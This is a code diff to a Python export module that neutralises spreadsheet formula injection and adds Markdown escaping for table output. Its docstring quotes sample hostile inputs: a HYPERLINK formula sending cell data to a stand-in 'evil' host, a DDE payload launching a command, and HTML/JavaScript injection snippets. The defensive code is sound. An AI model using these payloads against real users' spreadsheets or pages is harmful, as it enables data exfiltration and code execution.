@@ -1,4 +1,4 @@
-"""Exports that are safe to open in a spreadsheet.
+"""Exports that are safe to open in a spreadsheet or to render as Markdown.
 
 Query texts, ids and chunk text come from uploaded files; a cell such as
 ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` becomes a
@@ -14,7 +14,13 @@ text cells that are exactly a number (``"-3"``, ``"+1.5e-3"``, ``"-12%"``)
 are left alone as well, since a spreadsheet reads them as plain numbers.
 
 The dashboard uses :func:`to_safe_csv` for every download (see
-``dashboard/ui/layout.py``).
+``dashboard/ui/layout.py``), the command line for ``--format csv``.
+
+Markdown (:func:`markdown_cell`, :func:`markdown_table`) is rendered by
+GitHub, GitLab and notebooks, which pass inline HTML through: a cell holding
+``<img src=x onerror=...>`` or ``[text](javascript:...)`` would become markup.
+Every text cell has ``&`` and ``<`` escaped and its Markdown punctuation backslash-escaped,
+so it renders as the text it is; a line break becomes a space.
 """
 
 from __future__ import annotations
@@ -116,4 +122,35 @@ def to_safe_csv(
     return text if encoding is None else text.encode(encoding)
 
 
-__all__ = ["TRIGGERS", "is_dangerous", "neutralise", "safe_frame", "to_safe_csv"]
+# what makes inline markup inside a line (code, emphasis, a link or image, which an opening bracket starts,
+# strike-through, a cell's end); block markup (headings, lists) needs a line start, which a cell or a prefixed line
+# never gives it; an underscore inside a word (query_id) is no emphasis
+_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*\[|~]|(?<![0-9A-Za-z])_|_(?![0-9A-Za-z]))")
+
+
+def markdown_cell(value: Any) -> str:
+    """``value`` as text that renders as itself in a Markdown table cell (see the module docstring)."""
+    text = str(value).replace("&", "&amp;").replace("<", "&lt;")  # no tag, comment or entity can start
+    text = _MARKDOWN_PUNCTUATION.sub(r"\\\1", text)
+    return re.sub(r"[\r\n]+", " ", text)
+
+
+def markdown_table(frame: pd.DataFrame, *, float_format: str = "{:.4f}") -> str:
+    """A GitHub-flavoured Markdown table of ``frame`` (no index): numbers right-aligned in ``float_format``, text
+    escaped by :func:`markdown_cell`."""
+
+    def cell(value: Any) -> str:
+        if isinstance(value, float):
+            return "" if value != value else float_format.format(value)
+        return markdown_cell(value)
+
+    numeric = [pd.api.types.is_numeric_dtype(frame[c].dtype) for c in frame.columns]
+    lines = [
+        "| " + " | ".join(markdown_cell(c) for c in frame.columns) + " |",
+        "|" + "|".join("---:" if n else "---" for n in numeric) + "|",
+    ]
+    lines += ["| " + " | ".join(cell(v) for v in row) + " |" for row in frame.itertuples(index=False)]
+    return "\n".join(lines) + "\n"
+
+
+__all__ = ["TRIGGERS", "is_dangerous", "markdown_cell", "markdown_table", "neutralise", "safe_frame", "to_safe_csv"]
